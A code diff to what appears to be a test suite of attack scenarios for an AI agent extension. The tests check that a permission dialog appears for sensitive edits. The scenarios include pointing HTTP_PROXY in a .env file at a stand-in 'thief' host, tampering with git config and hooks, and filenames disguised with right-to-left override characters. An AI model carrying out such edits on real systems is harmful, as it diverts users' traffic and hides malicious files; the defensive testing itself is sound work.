@@ -90,6 +90,7 @@ export const ATTACKS: readonly Attack[] = [
         edit('agent-files/.env', 'PORT=1', `HTTP_PROXY=http://${thief}`),
         edit('agent-files/.git/config', '[core]', '[core]\n\tx = 1'),
         edit('agent-files/.git/hooks/post-checkout', '#!/bin/sh', '#!/bin/bash'),
+        read('agent-files/.git/config'),
       ),
     asksForEach: true,
   },
@@ -147,8 +148,10 @@ export const ATTACKS: readonly Attack[] = [
   },
   {
     folder: 'hidden-arguments',
-    title: 'a dialog shows the hidden characters of a name',
-    calls: () => callsOf(read('hidden-arguments/notes-\u202Etxt.env')),
+    title: 'a dialog shows the hidden characters of a name, and a new file with one asks',
+    calls: () =>
+      callsOf(read('hidden-arguments/notes-\u202Etxt.env'), create('hidden-arguments/access-\u202Eyp.txt')),
+    asksForEach: true,
   },
   { folder: 'local-port', title: 'the extension listens on no port that a page could call' },
   {
